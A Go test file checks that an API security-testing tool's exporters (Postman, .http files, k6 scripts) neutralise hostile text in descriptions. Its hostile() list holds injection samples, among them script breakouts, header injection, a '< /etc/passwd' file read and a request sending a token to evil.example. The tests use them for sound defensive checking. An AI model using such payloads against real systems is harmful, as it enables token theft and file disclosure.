package export

import (
	"bytes"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/threatdelta/threatdelta/internal/plan"
	"github.com/threatdelta/threatdelta/internal/severity"
)

// hostile are texts that would act somewhere, if they were not kept from it.
func hostile() []string {
	return []string{
		`{{tokenA}}`, `{{{{tokenB}}}}`, `${__ENV.tokenA}`, "`+alert(1)+`", `</script><script>alert(1)</script>`, `"); throw 1; ("`, `'; throw 1; //`, `\`, `*/`,
		"a\n###\nGET https://evil.example/{{tokenA}}", "\r\nX-Evil: 1", "< /etc/passwd", "> {% client.log(1) %}", "\u2028alert(1)", "# @prompt x", "%}", "@baseUrl = https://evil.example",
	}
}

// hostilePlan has the text at every place of a plan that a description reaches.
func hostilePlan(text string) *plan.Plan {
	word := plan.Variable{Name: "orderId", Kind: plan.ObjectID, Of: plan.A, About: text}
	token := plan.Variable{Name: "tokenA", Kind: plan.CredentialValue, Of: plan.A, About: text}
	quoted, _ := json.Marshal(text)
	flat := strings.NewReplacer("\r", "", "\n", "").Replace(text)
	encoded := plan.EscapeQuery(text)
	request := func(contentType string, body plan.Text) plan.Request {
		return plan.Request{Method: "POST", Path: plan.Join(plan.Literal("/"+encoded+"/"), plan.Var("orderId")), Query: []plan.Field{{Name: encoded, Value: plan.Literal(encoded)}},
			Headers: []plan.Field{{Name: "X-Note", Value: plan.Literal(flat)}}, ContentType: contentType, Body: body,
			Credentials: []plan.Credential{{Scheme: text, Type: "oauth2", In: "header", Name: "Authorization", Prefix: "Bearer ", Variable: "tokenA"}}}
	}
	step := func(r plan.Request, expect *plan.Expect) plan.Step {
		return plan.Step{Name: text, Role: plan.Ask, As: plan.A, Request: r, Repeat: 1, Concurrency: 1, Expect: expect}
	}
	test := plan.Test{ID: "bola-object-id-0123456789abcdef", Finding: "0123456789abcdef", Rule: "bola-object-id", Level: severity.High, Title: text, Template: plan.OtherTenant,
		Operation: plan.Operation{Method: "POST", Path: text}, Needs: []plan.Identity{plan.A}, Variables: []plan.Variable{word, token}, Cap: 3, Note: text,
		Steps: []plan.Step{
			step(request("application/json", plan.Join(plan.Literal(`{"a":`+string(quoted)+`,"b":"`), plan.Var("orderId"), plan.Literal(`"}`))), plan.Without(plan.Pointer(text), plan.Literal(text))),
			step(request("text/plain", plan.Literal(text)), plan.Refused()),
			step(request("application/x-www-form-urlencoded", plan.Literal("a="+encoded)), plan.WithHeader("X-Note", plan.Literal(text))),
		}}
	return plan.New(plan.Tool{Name: "threatdelta", Version: "0"}, []plan.Test{test}, nil)
}

func write(t testing.TB, w Writer, p *plan.Plan) string {
	t.Helper()
	if err := p.Check(); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := w(&b, p); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

var opened = regexp.MustCompile(`\{\{([^{}]*)\}\}`)

// isOurs are the variables that a form may open.
func isOurs(name string) bool {
	stem, _, _ := strings.Cut(name, "__")
	return name == baseURL || slices.Contains([]string{"orderId", "tokenA", "plainUrl"}, stem)
}

// TestNothingOfADescriptionOpensAVariable: of Postman and of editors, in no place.
func TestNothingOfADescriptionOpensAVariable(t *testing.T) {
	for _, text := range hostile() {
		p := hostilePlan(text)
		var c postmanCollection
		if err := json.Unmarshal([]byte(write(t, Postman, p)), &c); err != nil {
			t.Fatal(err)
		}
		c.Event = nil // scripts are not filled in
		plainly, err := json.Marshal(c)
		if err != nil {
			t.Fatal(err)
		}
		for name, written := range map[string]string{"postman": string(plainly), "http": write(t, HTTP, p)} {
			counted := map[string]int{}
			for _, m := range opened.FindAllStringSubmatch(written, -1) {
				if counted[m[1]]++; !isOurs(m[1]) {
					t.Errorf("%s: %q opens %q", name, text, m[1])
				}
			}
			want := 3
			if name == "postman" { // once in the raw address and once in its parts
				want = 6
			}
			if counted["tokenA"]+counted["tokenA__header"] != 3 || counted[baseURL] != want {
				t.Errorf("%s: %q changes how often variables are opened: %v", name, text, counted)
			}
		}
	}
}

// TestHTTPHasNoOtherRequests: a text of a description begins no request, no comment of
// its own that an editor acts on, and reads no file.
func TestHTTPHasNoOtherRequests(t *testing.T) {
	calm := kinds(write(t, HTTP, hostilePlan("calm")))
	for _, text := range hostile() {
		if got := kinds(write(t, HTTP, hostilePlan(text))); got["request"] != calm["request"] || got["separator"] != calm["separator"] || got["acts"] != 0 || got["set"] != calm["set"] {
			t.Errorf("%q: %v, and %v with a calm text", text, got, calm)
		}
	}
	if calm["request"] != 3 || calm["separator"] != 3 || calm["set"] != 3 {
		t.Errorf("three requests and three variables are %v", calm)
	}
}

// kinds counts the lines of a file of requests by what an editor makes of them.
func kinds(text string) map[string]int {
	out := map[string]int{}
	isBody := false
	for _, line := range strings.Split(text, "\n") {
		switch {
		case strings.HasPrefix(line, "###"):
			out["separator"]++
			isBody = false
		case strings.HasPrefix(line, "# @"):
			out["marks"]++
		case strings.HasPrefix(line, "#"):
		case strings.HasPrefix(line, "@"):
			out["set"]++
		case strings.HasSuffix(line, " HTTP/1.1"), strings.HasPrefix(line, "GET "):
			out["request"]++
		case line == "":
			isBody = true
		case strings.HasPrefix(line, "<"), strings.HasPrefix(line, ">"), strings.HasPrefix(line, "X-Evil") && !isBody:
			out["acts"]++
		}
	}
	return out
}

// TestScriptsAreOfOneShape: whatever a description says, the code of a script is the
// same but for the strings in it.
func TestScriptsAreOfOneShape(t *testing.T) {
	bare := func(text string) string {
		return regexp.MustCompile(`"(?:[^"\\\n]|\\.)*"`).ReplaceAllString(text, `""`)
	}
	calm := bare(write(t, K6, hostilePlan("calm")))
	for _, text := range hostile() {
		written := write(t, K6, hostilePlan(text))
		if bare(written) != calm {
			t.Errorf("%q changes the code of the script", text)
		}
		if strings.Contains(written, "</script") || strings.Contains(written, "\u2028") {
			t.Errorf("%q acts within HTML or ends a line", text)
		}
	}
}
